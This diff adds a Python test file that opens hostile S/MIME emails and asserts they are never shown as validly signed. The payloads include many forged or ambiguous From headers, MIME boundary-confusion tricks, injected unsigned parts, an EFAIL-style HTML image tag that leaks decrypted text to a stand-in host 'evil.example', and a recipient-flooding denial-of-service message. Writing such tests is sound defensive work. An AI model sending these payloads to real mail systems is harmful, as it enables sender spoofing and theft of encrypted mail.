@@ -1,0 +1,250 @@
+"""Messages made to deceive or to wear out: each is an attack that worked once, or must never."""
+import base64
+import functools
+import os
+import random
+import subprocess
+import time
+
+import der
+from fixtures import SANITIZED, HostTest, database, new_folder, pki
+
+WITHIN = 5.0 if not SANITIZED else 60.0  # seconds for any message below a megabyte
+
+HEAD = (b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: hello\r\n"
+        b"MIME-Version: 1.0\r\n")
+TEXT = b"Content-Type: text/plain\r\n\r\nPay 5 to Bob.\r\n"
+EVIL = b"Content-Type: text/html\r\n\r\n<b>Pay 500 to Mallory.</b>\r\n"
+PROTOCOL = b'protocol="application/pkcs7-signature"; micalg=sha-256'
+
+
+@functools.lru_cache(maxsize=None)
+def bobs_database():
+    return database("bob")
+
+
+def openssl(action, content, *arguments):
+    path = os.path.join(new_folder(), "content")
+    with open(path, "wb") as file:
+        file.write(content)
+    return subprocess.run(["openssl", "cms", action, "-binary", "-in", path, "-outform", "DER",
+                           *arguments], check=True, stdout=subprocess.PIPE).stdout
+
+
+@functools.lru_cache(maxsize=None)
+def sign(content, opaque=False, name="alice"):
+    path = os.path.join(pki(), name)
+    return openssl("-sign", content, "-signer", path + ".crt", "-inkey", path + ".key", "-certfile",
+                   os.path.join(pki(), "intermediate.crt"), *(["-nodetach"] if opaque else []))
+
+
+def encrypt(content, name="bob"):
+    return openssl("-encrypt", content, "-aes-128-cbc", os.path.join(pki(), name + ".crt"))
+
+
+def in_base64(content):
+    return base64.encodebytes(content).replace(b"\n", b"\r\n")
+
+
+def pkcs7(cms, smime_type=b"signed-data"):
+    return (b"Content-Type: application/pkcs7-mime; smime-type=" + smime_type + b"\r\n"
+            b"Content-Transfer-Encoding: base64\r\n\r\n" + in_base64(cms))
+
+
+def signature_part(cms):
+    return (b"Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n"
+            b"\r\n" + in_base64(cms))
+
+
+def multipart(parameters, *parts, subtype=b"signed", boundary=b"bnd", preamble=b""):
+    """`parameters` must name the boundary."""
+    body = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
+    return (b"Content-Type: multipart/" + subtype + b"; " + parameters + b"\r\n\r\n" + preamble +
+            body + b"--" + boundary + b"--\r\n")
+
+
+def signed(entity=TEXT, parameters=PROTOCOL + b"; boundary=bnd", boundary=b"bnd", preamble=b""):
+    return multipart(parameters, entity, signature_part(sign(entity)), boundary=boundary,
+                     preamble=preamble)
+
+
+class Hostile(HostTest):
+    def start(self, **options):
+        return super().start(database=bobs_database(), **options)
+
+    def open(self, message):
+        return self.host.request("message.open", {"message": {"blob": self.host.upload(message)}},
+                                 timeout=120)
+
+    def content(self, result):
+        return self.host.download(result["content"])
+
+    def assert_good(self, message):
+        result = self.open(message)
+        self.assertEqual((result["signature"]["status"], result["signature"]["problems"]),
+                         ("good", []))
+        return result
+
+    def assert_not_good(self, message, *words):
+        signature = self.open(message)["signature"]
+        self.assertNotEqual(signature["status"], "good", message[:300])
+        for word in words:
+            self.assertIn(word, signature["problems"], message[:300])
+
+
+class Senders(Hostile):
+    """Who the sender is said to be, and who signed."""
+
+    def with_from(self, fields):
+        return fields + HEAD.split(b"\r\n", 1)[1] + signed()
+
+    def test_a_from_that_others_may_read_as_another_address_is_never_good(self):
+        for fields in (
+                b"From: alice@example.org, mallory@evil.example\r\n",
+                b"From: alice@example.org\r\nfrom: mallory@evil.example\r\n",
+                b"From: alice@example.org\r\nFROM : mallory@evil.example\r\n",
+                b'From: "alice@example.org" <mallory@evil.example>\r\n',
+                b"From: mallory@evil.example <alice@example.org>\r\n",
+                b"From: <alice@example.org> mallory@evil.example\r\n",
+                b"From: <@evil.example:alice@example.org>\r\n",
+                b"From: =?utf-8?q?alice=40example=2Eorg?= <mallory@evil.example>\r\n",
+                b'From: "x\\" <alice@example.org>" <mallory@evil.example>\r\n',
+                b'From: "alice"@example.org\r\n',
+                b"From: alice@example.org.\r\n",
+                b"From: alice@example.org;\r\n",
+                b"From: alice@example.org\r\nFrom:\r\n",
+                b"From: alice@example.org\x0b\r\n",
+                b"From: alice@example\xe3\x80\x82org\r\n",
+                b"From: mallory@evil.example\rFrom: alice@example.org\r\n",
+                b" From: mallory@evil.example\r\nFrom: alice@example.org\r\n",
+                b"From: mallory@evil.example (\r\nFrom: alice@example.org\r\n",
+                b"From: alice@example.org\r\nno field\r\nFrom: mallory@evil.example\r\n",
+                b"Sender: alice@example.org\r\nFrom: mallory@evil.example\r\n",
+                b"Sender: alice@example.org\r\n"):
+            with self.subTest(fields):
+                self.assert_not_good(self.with_from(fields))
+
+    def test_a_first_field_with_a_blank_before_its_colon_is_no_mbox_line(self):
+        self.assert_not_good(self.with_from(b"From : mallory@evil.example\r\n"
+                                            b"From: alice@example.org\r\n"), "multiple-from")
+
+    def test_another_from_inside_is_never_good(self):
+        inner = b"From: mallory@evil.example\r\n" + TEXT
+        self.assert_not_good(HEAD + pkcs7(sign(inner, True)), "header-mismatch")
+
+    def test_another_from_in_a_header_that_cannot_be_read_is_never_good(self):
+        for more in (b"X: \0\r\n", b"X: y\r\n" * 1001):
+            inner = b"From: mallory@evil.example\r\n" + more + TEXT
+            self.assert_not_good(HEAD + pkcs7(sign(inner, True)), "mime-ambiguous")
+
+    def test_a_changed_from_around_encryption_is_never_good(self):
+        head = HEAD.replace(b"alice@", b"bob@")
+        self.assert_not_good(head + pkcs7(encrypt(signed()), b"enveloped-data"),
+                             "address-mismatch")
+
+
+class Structure(Hostile):
+    """What is shown, and what was signed."""
+
+    def test_two_readings_of_the_boundary_are_never_good(self):
+        for parameters in (
+                b"; boundary=bnd; boundary=evil", b"; boundary=evil; Boundary=bnd",
+                b"; boundary*0=b; boundary*1=nd", b"; boundary*=us-ascii''bnd",
+                b"; boundary=(evil)bnd", b'; boundary="b\\nd"', b'; boundary="=?utf-8?q?bnd?="',
+                b", boundary=evil; boundary=bnd", b" boundary=evil; boundary=bnd",
+                b'; boundary=bnd; x="; boundary=evil"', b";\r\n boundary=bnd;\r\n \r\n boundary=evil"):
+            with self.subTest(parameters):
+                self.assert_not_good(HEAD + signed(parameters=PROTOCOL + parameters))
+
+    def test_text_beside_the_signed_part_is_not_shown(self):
+        result = self.assert_good(HEAD + signed(preamble=b"Pay 500 to Mallory.\r\n"))
+        self.assertNotIn(b"Mallory", self.content(result))
+
+    def test_unsigned_parts_are_never_good(self):
+        part = signature_part(sign(TEXT))
+        for message in (
+                multipart(PROTOCOL + b"; boundary=bnd", TEXT, part, EVIL),
+                multipart(PROTOCOL + b"; boundary=bnd", EVIL, TEXT, part),
+                multipart(PROTOCOL + b"; boundary=bnd", EVIL, part),
+                signed() + b"\r\n--bnd\r\n" + EVIL + b"\r\n--bnd--\r\n",
+                signed(preamble=b"--bndx\r\n" + EVIL),
+                signed(preamble=b"x\r--bnd\r\n" + EVIL),
+                multipart(b"boundary=out", EVIL, signed(), subtype=b"mixed", boundary=b"out"),
+                multipart(b"boundary=out", signed(), subtype=b"related", boundary=b"out"),
+                b"Content-Type: message/rfc822\r\n\r\n" + HEAD + signed()):
+            self.assert_not_good(HEAD + message)
+
+    def test_outer_fields_cannot_put_text_in_front_of_what_was_signed(self):
+        for trick in (b"X: y\r\n \r\nPay: Mallory\r\n", b"X: y\r\r\nPay: Mallory\r\n",
+                      b"X:\r\n\t\r\n \r\n y\r\n"):
+            with self.subTest(trick):
+                content = self.content(self.open(HEAD + trick + signed()))
+                header, body = content.split(b"\r\n\r\n", 1)
+                self.assertEqual(body, b"Pay 5 to Bob.\r\n")
+                self.assertNotIn(b"\r", header.replace(b"\r\n", b""))
+                for line in header.split(b"\r\n"):
+                    self.assertNotEqual(line.strip(), b"")
+
+    def test_outer_content_fields_do_not_reach_what_was_signed(self):
+        message = (b"Content-Disposition: attachment\r\nContent-Language: xx\r\n" + HEAD +
+                   pkcs7(sign(TEXT, True)))
+        self.assertNotIn(b"Content-Transfer", self.content(self.open(message)))
+        self.assertNotIn(b"Content-Disposition", self.content(self.open(message)))
+
+    def test_each_layer_on_a_part_is_listed_once(self):
+        inner = multipart(b"boundary=m", signed(parameters=PROTOCOL + b"; boundary=q",
+                                                boundary=b"q"), subtype=b"mixed", boundary=b"m")
+        outer = signed(inner, PROTOCOL + b"; boundary=r", b"r")
+        layers = self.open(HEAD + multipart(b"boundary=out", TEXT, outer, subtype=b"mixed",
+                                            boundary=b"out"))["layers"]
+        self.assertEqual(len(layers), 2)
+
+    def test_nothing_decrypted_stands_beside_other_parts(self):
+        secret = b"Content-Type: text/plain\r\n\r\nsecret\r\n"
+        result = self.open(HEAD + multipart(
+            b"boundary=out", b"Content-Type: text/html\r\n\r\n<img src='http://evil.example/",
+            pkcs7(encrypt(secret), b"enveloped-data"), subtype=b"mixed", boundary=b"out"))
+        self.assertEqual(result["encryption"]["status"], "partial")
+        self.assertNotIn(b"secret", self.content(result))
+        self.assertEqual(self.host.download(result["layers"][0]["content"]), secret)
+
+
+RSA = der.sequence(der.oid("1.2.840.113549.1.1.1"), der.NULL)
+DATA = der.oid("1.2.840.113549.1.7.1")
+
+
+class Work(Hostile):
+    """No message below a megabyte keeps the host busy for long."""
+
+    def assert_quick(self, message):
+        self.assertLess(len(message), 1 << 20)
+        begin = time.monotonic()
+        self.open(message)
+        self.assertLess(time.monotonic() - begin, WITHIN)
+
+    def test_the_user_named_thousands_of_times_as_a_recipient(self):
+        issuer_and_serial = self.bobs_name()
+        chance = random.Random(1)
+        recipients = [der.sequence(der.integer(0), issuer_and_serial, RSA,
+                                   der.octets(b"\1" + chance.randbytes(127)))
+                      for _ in range(3000)]
+        content = der.sequence(DATA, der.sequence(der.oid("2.16.840.1.101.3.4.1.42"),
+                                                  der.octets(bytes(16))),
+                               der.value(0x80, bytes(32)))
+        cms = der.sequence(der.oid("1.2.840.113549.1.7.3"), der.explicit(0, der.sequence(
+            der.integer(0), der.set_of(*recipients), content)))
+        self.assert_quick(HEAD + pkcs7(cms, b"enveloped-data"))
+
+    def bobs_name(self):
+        """IssuerAndSerialNumber, cut out of what openssl makes for him."""
+        cms = encrypt(TEXT)
+        serial = subprocess.run(["openssl", "x509", "-in", os.path.join(pki(), "bob.crt"),
+                                 "-noout", "-serial"], check=True, stdout=subprocess.PIPE,
+                                text=True).stdout.strip().split("=")[1]
+        number = der.integer(int(serial, 16))
+        end = cms.index(number) + len(number)
+        for start in range(end - len(number) - 1, 0, -1):
+            size = end - start - 2
+            if cms[start] == 0x30 and size < 128 and cms[start + 1] == size:
+                return cms[start:end]
+        raise AssertionError("no issuer before the serial number")
